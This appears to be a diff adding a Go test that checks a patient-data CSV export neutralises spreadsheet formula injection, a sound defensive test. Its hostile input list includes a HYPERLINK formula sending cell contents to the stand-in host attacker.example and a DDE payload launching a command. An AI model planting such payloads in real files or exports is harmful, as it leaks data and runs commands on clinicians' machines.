@@ -1,0 +1,49 @@
+package http_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
+	"testing"
+)
+
+// TestExportCSVNeutralisesFormulas: measure names and units a patient's
+// client sent that a spreadsheet would run as formulas (= + - @, tab,
+// carriage return first) reach the clinician's CSV with a leading
+// apostrophe; negative numbers stay numbers.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	f := newFixture(t)
+	hostile := []string{`=HYPERLINK("http://attacker.example/?d="&A1,"Click")`, "+cmd|'/C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	measures := ""
+	for i, name := range hostile {
+		measures += fmt.Sprintf(`%s{"name":%q,"value":-12.5,"unit":%q}`, map[bool]string{true: "", false: ","}[i == 0], name, name)
+	}
+	f.post(f.a, "/api/v1/sessions", []byte(`{"started_at":"2026-11-22T08:00:00Z","sets":[{"exercise":"bird-dog","hold_s":10,"intensity":2,"pain":1,"measures":[`+measures+`]}]}`))
+	r := f.do(req{method: "GET", path: fmt.Sprintf("/api/v1/patients/%d/export.csv", f.a.user.ID), token: f.c.token})
+	if r.status != 200 {
+		t.Fatalf("export.csv: %d %s", r.status, r.body)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := 0
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) && cell != "-12.5" {
+				t.Errorf("row %q column %s: cell %q would run as a formula", row, rows[0][i], cell)
+			}
+		}
+		for _, name := range hostile {
+			if row[4] == "'"+name {
+				found++
+				if row[6] != "-12.5" || row[7] != "'"+name {
+					t.Errorf("row %q: value %q unit %q, want -12.5 and the neutralised unit", row, row[6], row[7])
+				}
+			}
+		}
+	}
+	if found != len(hostile) {
+		t.Errorf("found %d of the %d hostile measures, neutralised, in the CSV:\n%s", found, len(hostile), r.body)
+	}
+}
